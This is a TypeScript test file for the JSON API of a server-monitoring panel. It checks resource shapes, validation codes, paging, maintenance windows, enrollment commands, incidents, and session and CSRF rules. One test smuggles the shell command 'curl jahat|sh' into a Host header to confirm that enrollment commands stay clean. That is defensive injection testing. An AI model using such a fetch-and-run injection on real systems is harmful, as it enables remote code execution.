/**
 * The JSON API as other programs use it: shapes, errors, pages of a list, roles and sessions.
 * Must not: know more than surface.md promises, but for the codes.
 */
/* What comes is judged by what it is, not by a type that claims it: answers are `any` here, on purpose. */
/* eslint-disable @typescript-eslint/no-explicit-any, @typescript-eslint/no-unsafe-assignment, @typescript-eslint/no-unsafe-member-access, @typescript-eslint/no-unsafe-call, @typescript-eslint/no-unsafe-argument, @typescript-eslint/no-unsafe-return */
import { describe, expect, it } from "vitest";
import { caller, type Answer } from "./api-caller.ts";
import { API_TOKEN, createPanelUnderTest, loggedIn, tokenOf } from "./panel-under-test.ts";
import { makeMaintenance, makeServer, START_MS } from "./view-samples.ts";
import { fillTroubles } from "./troubled-world.ts";
import { fillWorld } from "./world.ts";

async function world() {
  const panel = await createPanelUnderTest();
  fillWorld(panel.source);
  return { panel, call: caller(panel) };
}

describe("servers", () => {
  it("have the promised shape", async () => {
    const { call } = await world();
    const { json, status } = await call("GET", "servers/sby-1");
    expect(status).toBe(200);
    expect(json).toMatchObject({
      id: "sby-1",
      name: "sby-kasir-1",
      siteId: "sby",
      address: "10.4.0.2",
      mode: "agent",
      status: "down",
      statusSince: "2026-11-22T02:51:00.000Z",
      lastHeartbeatAt: "2026-11-22T02:48:00.000Z",
      downAfterSeconds: 180,
      latitude: null,
      longitude: null,
      parentId: null,
      tags: ["kasir"],
      agent: { version: "0.1.0", os: "Debian GNU/Linux 12 (bookworm)", arch: "x64" },
    });
    expect(json.health).toMatchObject({ at: "2026-11-22T02:59:40.000Z", memoryTotalBytes: 16 * 2 ** 30 });
  });

  it("are made, changed, paused, resumed, checked and removed", async () => {
    const { panel, call } = await world();
    const made = await call("POST", "servers", {
      name: "Router",
      mode: "ping",
      address: "10.0.0.1",
      probePorts: [22],
      unknownField: 1,
    });
    expect(made).toMatchObject({
      status: 201,
      json: { name: "Router", mode: "ping", status: "new", address: "10.0.0.1", tags: [] },
    });
    const path = `servers/${made.json.id}`;
    expect(await call("PATCH", path, { name: "Router Medan", siteId: "mdn" })).toMatchObject({
      status: 200,
      json: { name: "Router Medan", siteId: "mdn", address: "10.0.0.1", probePorts: [22] },
    });
    expect(await call("POST", `${path}/pause`)).toMatchObject({ status: 200, json: { status: "paused" } });
    expect(await call("POST", `${path}/pause`)).toMatchObject({ status: 409, json: { code: "already_so" } });
    expect(await call("POST", `${path}/resume`)).toMatchObject({ status: 200, json: { status: "new" } });
    expect(await call("POST", `${path}/check`)).toMatchObject({
      status: 200,
      json: { probes: [{ verdict: "alive", detail: "reply" }] },
    });
    expect((await call("DELETE", path)).status).toBe(204);
    expect(await call("GET", path)).toMatchObject({ status: 404, json: { code: "server_not_found" } });
    expect(panel.source.calls).toContain("pauseServer API");
  });

  it("name each wrong field with a code", async () => {
    const { call } = await world();
    const wrong = await call("POST", "servers", {
      name: "",
      mode: "ping",
      address: "a b",
      probePorts: [0],
      latitude: 91,
      longitude: "x",
      tags: "kasir",
    });
    expect(wrong.status).toBe(422);
    expect(wrong.type).toContain("application/problem+json");
    expect(wrong.json).toMatchObject({ type: "about:blank", status: 422, code: "invalid_body" });
    const codes = Object.fromEntries(
      wrong.json.errors.map((error: { field: string; code: string }) => [error.field, error.code]),
    );
    expect(codes).toEqual({
      name: "required",
      address: "address",
      "probePorts.0": "ports",
      latitude: "too_big",
      longitude: "number",
      tags: "invalid_type",
    });
    for (const error of wrong.json.errors) expect(error.message).not.toBe("");
    expect(await call("POST", "servers", { name: "x", mode: "ping" })).toMatchObject({
      status: 422,
      json: { errors: [{ field: "address", code: "required" }] },
    });
    expect(await call("POST", "servers", { name: "x", siteId: "nowhere" })).toMatchObject({
      status: 422,
      json: { code: "site_not_found", errors: [{ field: "siteId" }] },
    });
    for (const parentId of ["nowhere", "mdn-1"])
      expect(await call("PATCH", "servers/mdn-1", { parentId })).toMatchObject({
        status: 422,
        json: {
          code: parentId === "nowhere" ? "parent_not_found" : "parent_circle",
          errors: [{ field: "parentId" }],
        },
      });
    expect(await call("POST", "servers", { name: "x", downAfterSeconds: 10 })).toMatchObject({
      status: 422,
      json: { code: "down_after_too_short", errors: [{ field: "downAfterSeconds" }] },
    });
    expect(await call("POST", "servers", "{oops")).toMatchObject({
      status: 400,
      json: { code: "invalid_json" },
    });
    expect(await call("POST", "servers", [1])).toMatchObject({ status: 422, json: { code: "invalid_body" } });
    expect((await call("POST", "servers", { name: "x".repeat(70_000) })).status).toBe(413);
  });

  it("come in pages that neither repeat nor miss one while others come and go", async () => {
    const { panel, call } = await world();
    const seen: string[] = [];
    const expected = panel.source
      .servers()
      .map(({ id }) => id)
      .sort();
    let cursor: string | null = null;
    for (let page = 0; page < 20; page += 1) {
      const answer: Answer = await call(
        "GET",
        `servers?limit=7${cursor === null ? "" : `&cursor=${cursor}`}`,
      );
      seen.push(...answer.json.items.map(({ id }: { id: string }) => id));
      cursor = answer.json.nextCursor;
      if (page === 1) await call("DELETE", `servers/${seen.at(-1) ?? ""}`);
      if (page === 1) panel.source.setServer(makeServer({ id: "aaa" }));
      if (cursor === null) break;
    }
    expect(seen).toEqual(expected);
    expect(await call("GET", "servers?cursor=oops")).toMatchObject({
      status: 400,
      json: { code: "invalid_cursor" },
    });
    expect(await call("GET", "servers?limit=0")).toMatchObject({
      status: 400,
      json: { code: "invalid_query", errors: [{ field: "limit" }] },
    });
    expect((await call("GET", "servers?status=down&site=sby")).json.items).toHaveLength(1);
    expect((await call("GET", "servers?status=oops")).status).toBe(400);
  });
});

describe("service checks and parents", () => {
  it("a ping-only server takes a check, keeps it over a PATCH, and loses it by null", async () => {
    const { call } = await world();
    const http = { type: "http", url: "https://10.0.0.9/health", expectedStatus: null, expectedText: null };
    const made = await call("POST", "servers", {
      name: "NAS",
      mode: "ping",
      address: "10.0.0.9",
      parentId: "sby-5",
      check: { type: "http", url: "https://10.0.0.9/health" },
    });
    expect(made).toMatchObject({ status: 201, json: { check: http, parentId: "sby-5" } });
    const path = `servers/${made.json.id}`;
    expect((await call("PATCH", path, { name: "NAS 2" })).json).toMatchObject({ check: http, name: "NAS 2" });
    expect((await call("PATCH", path, { check: { type: "tcp", port: 445 } })).json.check).toEqual({
      type: "tcp",
      port: 445,
    });
    expect((await call("PATCH", path, { check: null, parentId: null })).json).toMatchObject({
      check: null,
      parentId: null,
    });
    expect((await call("GET", "servers/sby-1")).json.check).toBeNull();
  });

  it("what is wrong with a check is named by its path", async () => {
    const { call } = await world();
    const wrong = async (check: unknown, more: object = {}) => {
      const answer = await call("POST", "servers", {
        name: "x",
        mode: "ping",
        address: "10.0.0.9",
        ...more,
        check,
      });
      expect(answer.status).toBe(422);
      return answer.json.errors.map(({ field, code }: { field: string; code: string }) => `${field} ${code}`);
    };
    expect(await wrong({ type: "tcp", port: 70_000 })).toEqual(["check.port port"]);
    expect(await wrong({ type: "http", url: "ftp://a" })).toEqual(["check.url url"]);
    expect(await wrong({ type: "http", url: "http://a", expectedStatus: 42 })).toEqual([
      "check.expectedStatus status_code",
    ]);
    expect(await wrong({ type: "smtp" })).toEqual(["check.type choice"]);
    expect(await wrong({ type: "tcp", port: 1 }, { mode: "agent" })).toEqual(["check check_ping_only"]);
  });

  it("marks and the log of a server are there for programs too", async () => {
    const { panel, call } = await world();
    fillTroubles(panel.source);
    expect((await call("GET", "servers/jkt-03")).json.marks).toEqual({
      flapping: null,
      unstable: null,
      duplicate: { since: "2026-11-22T02:50:00.000Z", addresses: ["10.9.0.3", "10.31.7.9"] },
      maintenance: null,
    });
    expect((await call("GET", "servers/jyp-4")).json).toMatchObject({
      marks: { maintenance: { endsAt: "2026-11-22T04:00:00.000Z", note: "Ganti UPS, tiket 4711" } },
      probes: [
        { banner: null },
        { kind: "banner", banner: "SSH-2.0-dropbear_2022.83" },
        { banner: null },
        { kind: "http", detail: "status_503", asExpected: false },
      ],
    });
    const log = (await call("GET", "servers/jkt-01/log")).json;
    expect(log.nextCursor).toBeNull();
    expect(log.items.slice(0, 2)).toEqual([
      { at: "2026-11-22T02:00:00.000Z", type: "flapping", incidents: 3 },
      { at: "2026-11-22T01:00:00.000Z", type: "unstable_link", suspicions: 3 },
    ]);
    expect(log.items).toHaveLength(10);
    expect((await call("GET", "servers/nowhere/log")).status).toBe(404);
    expect((await call("GET", "sites/bdg")).json.gateway).toEqual({
      asked: 120,
      answered: 118,
      last: { verdict: "dead", at: "2026-11-22T02:59:20.000Z" },
    });
  });
});

describe("maintenance", () => {
  const window = { startsAt: "2026-11-22T20:00:00+07:00", endsAt: "2026-11-22T15:00:00Z" };

  it("is made, listed, read and removed", async () => {
    const { panel, call } = await world();
    const made = await call("POST", "maintenance", { ...window, siteId: "sby", note: " Ganti UPS " });
    expect(made).toMatchObject({
      status: 201,
      json: {
        siteId: "sby",
        serverId: null,
        startsAt: "2026-11-22T13:00:00.000Z",
        endsAt: "2026-11-22T15:00:00.000Z",
        note: "Ganti UPS",
        createdBy: "API",
        createdAt: new Date(START_MS).toISOString(),
      },
    });
    const path = `maintenance/${made.json.id}`;
    expect((await call("GET", path)).json).toEqual(made.json);
    // Without a begin it begins now.
    expect((await call("POST", "maintenance", { endsAt: window.endsAt })).json).toMatchObject({
      startsAt: new Date(START_MS).toISOString(),
      siteId: null,
      serverId: null,
    });
    const first = await call("GET", "maintenance?limit=1");
    expect(first.json.items).toHaveLength(1);
    const second = await call("GET", `maintenance?limit=1&cursor=${first.json.nextCursor}`);
    expect(second.json).toMatchObject({ items: [{ siteId: null }], nextCursor: null });
    expect((await call("DELETE", path)).status).toBe(204);
    expect(await call("DELETE", path)).toMatchObject({
      status: 404,
      json: { code: "maintenance_not_found" },
    });
    expect((await call("GET", path)).status).toBe(404);
    expect(panel.source.maintenance()).toHaveLength(1);
  });

  it("that is wrong is refused with a stable code and its field", async () => {
    const { call } = await world();
    const wrong = async (change: object) => {
      const { status, json } = await call("POST", "maintenance", { ...window, ...change });
      expect(status).toBe(422);
      return [json.code, ...json.errors.map((error: any) => `${error.field} ${error.code}`)];
    };
    expect(await wrong({ endsAt: "2026-11-22T12:00:00Z" })).toEqual([
      "maintenance_ends_before_it_starts",
      "endsAt maintenance_ends_before_it_starts",
    ]);
    expect(await wrong({ siteId: "nowhere" })).toEqual(["site_not_found", "siteId site_not_found"]);
    expect(await wrong({ serverId: "nowhere" })).toEqual(["server_not_found", "serverId server_not_found"]);
    expect(await wrong({ siteId: "sby", serverId: "sby-1" })).toEqual(["invalid_body", "serverId one_scope"]);
    expect(await wrong({ endsAt: "2027-01-22T12:00:00Z" })).toEqual([
      "invalid_body",
      "endsAt too_long_window",
    ]);
    expect(await wrong({ startsAt: null })).toEqual(["invalid_body", "startsAt moment"]);
    for (const endsAt of [undefined, null, "tomorrow", "2026-11-22", 1_795_316_400_000])
      expect(await wrong({ endsAt }), String(endsAt)).toContain("invalid_body");
    expect(await wrong({ startsAt: "2026-11-20T00:00:00Z", endsAt: "2026-11-21T00:00:00Z" })).toEqual([
      "invalid_body",
      "endsAt ended",
    ]);
  });

  it("is read by a viewer and changed by an operator", async () => {
    const { panel } = await world();
    panel.source.setMaintenance(makeMaintenance({ id: "m1" }));
    const viewer = await loggedIn(panel, "viewer");
    const cookie = `detak_session=${viewer.cookies.get("detak_session") ?? ""}`;
    const call = caller(panel, { cookie, "sec-fetch-site": "same-origin" });
    expect((await call("GET", "maintenance")).json.items).toHaveLength(1);
    expect((await call("POST", "maintenance", window)).status).toBe(403);
    expect((await call("DELETE", "maintenance/m1")).status).toBe(403);
  });
});

describe("sites, enrollments, recipients", () => {
  it("sites are made, changed and removed; one with servers stays", async () => {
    const { call } = await world();
    const made = await call("POST", "sites", { name: "Cabang Ambon", latitude: -3.69, longitude: 128.18 });
    expect(made).toMatchObject({
      status: 201,
      json: { name: "Cabang Ambon", code: "", timeZone: "Asia/Jakarta", gatewayAddress: null },
    });
    expect(await call("PATCH", `sites/${made.json.id}`, { timeZone: "Asia/Jayapura" })).toMatchObject({
      status: 200,
      json: { timeZone: "Asia/Jayapura", latitude: -3.69 },
    });
    expect(await call("PATCH", `sites/${made.json.id}`, { longitude: null })).toMatchObject({
      status: 422,
      json: { errors: [{ field: "latitude", code: "coordinates" }] },
    });
    expect((await call("DELETE", `sites/${made.json.id}`)).status).toBe(204);
    expect(await call("DELETE", "sites/sby")).toMatchObject({
      status: 409,
      json: { code: "site_not_empty" },
    });
    expect(await call("GET", "sites/nowhere")).toMatchObject({
      status: 404,
      json: { code: "site_not_found" },
    });
    expect((await call("GET", "sites")).json).toMatchObject({ nextCursor: null });
  });

  it("enrollments answer a token, its end and the commands", async () => {
    const { panel, call } = await world();
    panel.source.setSystem({ publicUrl: "https://detak.contoh.id" });
    const made = await call("POST", "enrollments", { siteId: "sby", uses: 3, expiresInSeconds: 600 });
    expect(made.status).toBe(201);
    expect(made.json.expiresAt).toBe(new Date(START_MS + 600_000).toISOString());
    for (const system of ["linux", "windows", "source"])
      expect(made.json.commands[system]).toContain(
        `--collector https://detak.contoh.id --token ${made.json.token}`,
      );
    expect((await call("POST", "enrollments")).status).toBe(201);
    expect(await call("POST", "enrollments", { serverId: "nowhere" })).toMatchObject({
      status: 422,
      json: { code: "server_not_found", errors: [{ field: "serverId" }] },
    });
    expect(await call("POST", "enrollments", { uses: 0 })).toMatchObject({
      status: 422,
      json: { errors: [{ field: "uses" }] },
    });
  });

  it("a command never carries what a shell would read, whatever the Host header says", async () => {
    const { panel } = await world();
    const response = await panel.app.request("http://localhost/api/v1/enrollments", {
      method: "POST",
      headers: { authorization: `Bearer ${API_TOKEN}`, host: "x;curl jahat|sh" },
    });
    expect(((await response.json()) as { commands: { linux: string } }).commands.linux).toMatch(
      /^sudo detak-agent enroll --collector http:\/\/localhost --token \S+ && sudo detak-agent run$/,
    );
  });

  it("recipients are added directly, changed and removed; link codes are given", async () => {
    const { call } = await world();
    const made = await call("POST", "recipients", { channel: "telegram", address: -100777, name: "Grup" });
    expect(made).toMatchObject({
      status: 201,
      json: {
        channel: "telegram",
        address: "-100777",
        name: "Grup",
        language: "id",
        enabled: true,
        disabledReason: null,
      },
    });
    expect(
      await call("POST", "recipients", { channel: "telegram", address: "-100777", name: "Lagi" }),
    ).toMatchObject({ status: 409, json: { code: "recipient_exists" } });
    expect(await call("POST", "recipients", { channel: "pigeon", address: "1", name: "x" })).toMatchObject({
      status: 422,
      json: { errors: [{ field: "channel", code: "choice" }] },
    });
    expect(
      await call("PATCH", `recipients/${made.json.id}`, { enabled: false, language: "en" }),
    ).toMatchObject({ status: 200, json: { enabled: false, language: "en", address: "-100777" } });
    expect((await call("DELETE", `recipients/${made.json.id}`)).status).toBe(204);
    expect(await call("POST", "recipients/link-codes", { name: "Grup" })).toMatchObject({
      status: 201,
      json: {
        code: "KODE0002",
        deepLink: "https://t.me/detak_contoh_bot?start=KODE0002",
        groupCommand: "/link KODE0002",
      },
    });
  });
});

describe("incidents", () => {
  it("have the promised shape, with timeline and notifications", async () => {
    const { call } = await world();
    const { json } = await call("GET", "incidents/i42");
    expect(json).toMatchObject({
      id: "i42",
      number: 42,
      kind: "host_down",
      variant: null,
      serverId: "sby-1",
      siteId: "sby",
      groupedUnder: null,
      startedAt: "2026-11-22T02:48:00.000Z",
      detectedAt: "2026-11-22T02:51:00.000Z",
      endedAt: null,
      confidence: "high",
      cause: "host_crash_or_power",
      finalCause: null,
      acknowledgedBy: null,
      minutes: { server: 12, link: 0, planned: 0, collector: 0 },
    });
    expect(json.evidence[0]).toEqual({
      type: "last_heard",
      at: "2026-11-22T02:48:00.000Z",
      silentSeconds: 180,
    });
    expect(json.timeline[0]).toMatchObject({
      at: "2026-11-22T02:51:00.000Z",
      type: "opened",
      kind: "host_down",
    });
    expect(json.notifications[1]).toMatchObject({ status: "retry", attempts: 3, settledAt: null });
    expect(JSON.stringify(json)).not.toMatch(/AtMs"/);
  });

  it("of a group hold their members and sites, and a member its group", async () => {
    const { panel, call } = await world();
    fillTroubles(panel.source);
    const { json } = await call("GET", "incidents/i50");
    expect(json).toMatchObject({
      kind: "site_down",
      variant: "link_or_power",
      serverId: null,
      siteId: "bdg",
      groupedUnder: null,
      members: ["bdg-1", "bdg-2", "bdg-3"],
      memberSites: ["bdg"],
      evidence: [
        { type: "gateway", address: "10.4.0.1", verdict: "dead" },
        { type: "probe", from: "witness", by: "mks-domain", result: { verdict: "dead" } },
      ],
      memberDetails: [
        { serverId: "bdg-1", serverName: "bdg-kasir-1", incidentId: "i51", backAt: null },
        { serverId: "bdg-2", backAt: "2026-11-22T02:59:00.000Z" },
        { serverId: "bdg-3" },
      ],
    });
    expect(json.timeline[1]).toEqual({
      at: "2026-11-22T02:48:10.000Z",
      type: "joined",
      serverName: "bdg-berkas",
    });
    expect((await call("GET", "incidents/i51")).json).toMatchObject({ groupedUnder: "i50", members: [] });
    expect((await call("GET", "incidents/i30")).json).toMatchObject({
      finalCause: "path_or_provider",
      minutes: { server: 0, link: 33, planned: 0, collector: 0 },
      evidence: [
        { type: "sentinels", alive: ["1.1.1.1:443"], failed: ["10.0.0.1"] },
        { type: "journal", finding: { type: "internet", reached: true } },
        { type: "journal", finding: { type: "collector", problem: "timeout" } },
      ],
    });
    expect(JSON.stringify((await call("GET", "incidents?limit=50")).json)).not.toMatch(/AtMs"|forMs"/);
  });

  it("are filtered and paged, newest first", async () => {
    const { call } = await world();
    const numbers = async (query: string) =>
      (await call("GET", `incidents?${query}`)).json.items.map(({ number }: { number: number }) => number);
    expect(await numbers("")).toEqual([42, 41, 6, 5, 4, 3, 2, 1]);
    expect(await numbers("open=true")).toEqual([42, 41]);
    expect(await numbers("open=false&limit=2")).toEqual([6, 5]);
    expect(await numbers("server=mks-3")).toEqual([41]);
    expect(await numbers("site=sby&kind=host_down")).toEqual([42]);
    expect(
      await numbers(`from=${encodeURIComponent("2026-11-20T10:00:00+07:00")}&to=2026-11-21T12:00:00Z`),
    ).toEqual([2, 1]);
    const first = await call("GET", "incidents?limit=3");
    expect(await numbers(`limit=3&cursor=${first.json.nextCursor}`)).toEqual([5, 4, 3]);
    expect((await call("GET", "incidents?limit=8")).json.nextCursor).toBeNull();
    expect(await call("GET", "incidents?from=yesterday")).toMatchObject({
      status: 400,
      json: { errors: [{ field: "from" }] },
    });
    expect((await call("GET", "incidents?open=maybe")).status).toBe(400);
  });

  it("are acknowledged, noted and checked", async () => {
    const { call } = await world();
    expect(await call("POST", "incidents/i42/ack", { by: "budi" })).toMatchObject({
      status: 200,
      json: { acknowledgedBy: "budi" },
    });
    expect(await call("POST", "incidents/i42/ack", { by: "budi" })).toMatchObject({
      status: 409,
      json: { code: "already_so" },
    });
    expect(await call("POST", "incidents/i3/ack")).toMatchObject({
      status: 409,
      json: { code: "incident_closed" },
    });
    expect((await call("POST", "incidents/i42/note", { text: "PLN padam" })).status).toBe(200);
    expect((await call("GET", "incidents/i42")).json.timeline.at(-1)).toMatchObject({
      type: "note",
      by: "API",
      text: "PLN padam",
    });
    expect(await call("POST", "incidents/i42/note", {})).toMatchObject({
      status: 422,
      json: { errors: [{ field: "text" }] },
    });
    expect(await call("POST", "incidents/i42/check")).toMatchObject({
      status: 200,
      json: { probes: [{ verdict: "alive" }], evidence: [{ type: "probe", from: "collector", by: null }] },
    });
    expect((await call("POST", "incidents/nowhere/check")).status).toBe(404);
  });
});

describe("who may call", () => {
  it("needs a right token or a session; an empty token setting lets nobody in", async () => {
    const { panel } = await world();
    for (const authorization of ["", "Bearer", "Bearer x", `Basic ${API_TOKEN}`, `Bearer ${API_TOKEN}x`])
      expect(await caller(panel, { authorization })("GET", "servers"), authorization).toMatchObject({
        status: 401,
        json: { code: "unauthorized" },
      });
    expect((await caller(panel, {})("GET", "servers")).status).toBe(401);
    for (const apiToken of [null, ""]) {
      const closed = await createPanelUnderTest({ apiToken });
      expect((await caller(closed, { authorization: "Bearer " })("GET", "servers")).status).toBe(401);
      expect((await caller(closed, { authorization: "Bearer null" })("GET", "servers")).status).toBe(401);
    }
  });

  it("a session reads, and changes only from the panel's own pages and within its role", async () => {
    const { panel } = await world();
    const operator = await loggedIn(panel, "operator");
    const cookie = `detak_session=${operator.cookies.get("detak_session") ?? ""}`;
    expect((await caller(panel, { cookie })("GET", "servers")).status).toBe(200);
    const pause = (headers: Record<string, string>) =>
      caller(panel, { cookie, ...headers })("POST", "servers/mdn-1/pause");
    expect(await pause({})).toMatchObject({ status: 403, json: { code: "cross_site" } });
    expect((await pause({ "sec-fetch-site": "cross-site" })).status).toBe(403);
    expect((await pause({ origin: "https://jahat.example", host: "localhost" })).status).toBe(403);
    expect((await pause({ "sec-fetch-site": "same-origin" })).status).toBe(200);
    const token = tokenOf(await operator.html("/"));
    expect(
      (await caller(panel, { cookie, "x-csrf-token": token })("POST", "servers/mdn-1/resume")).status,
    ).toBe(200);
    expect(
      await caller(panel, { cookie, "sec-fetch-site": "same-origin" })("POST", "sites", { name: "x" }),
    ).toMatchObject({ status: 403, json: { code: "forbidden" } });
  });

  it("a failing store is a 503 with its code", async () => {
    const { panel, call } = await world();
    panel.source.failStore(true);
    expect(await call("POST", "servers", { name: "x" })).toMatchObject({
      status: 503,
      json: { code: "store_failing" },
    });
  });

  it("an unknown address is a 404 as problem+json", async () => {
    const { call } = await world();
    expect(await call("GET", "oops")).toMatchObject({ status: 404, json: { code: "not_found" } });
  });
});

describe("health", () => {
  it("says that it lives, and whether it is ready, to anybody, without internals", async () => {
    const panel = await createPanelUnderTest();
    const alive = await panel.app.request("/healthz");
    expect([alive.status, await alive.json()]).toEqual([200, { status: "ok" }]);
    const ready = await panel.app.request("/readyz");
    expect([ready.status, await ready.json()]).toEqual([
      200,
      { status: "ok", store: "ok", hearing: "hearing", telegram: "ok" },
    ]);
    panel.source.setSystem({ store: { state: "failing", detail: "/var/lib/detak: ENOSPC", notices: [] } });
    const failing = await panel.app.request("/readyz");
    expect([failing.status, await failing.json()]).toEqual([
      503,
      { status: "unavailable", store: "failing", hearing: "hearing", telegram: "ok" },
    ]);
    expect((await panel.app.request("/healthz")).status).toBe(200);
  });

  it("a collector that can not hear is ready for people, and says that it is isolated", async () => {
    const panel = await createPanelUnderTest();
    panel.source.setSystem({ hearing: "isolated" });
    const ready = await panel.app.request("/readyz");
    expect([ready.status, await ready.json()]).toEqual([
      200,
      { status: "ok", store: "ok", hearing: "isolated", telegram: "ok" },
    ]);
  });
});
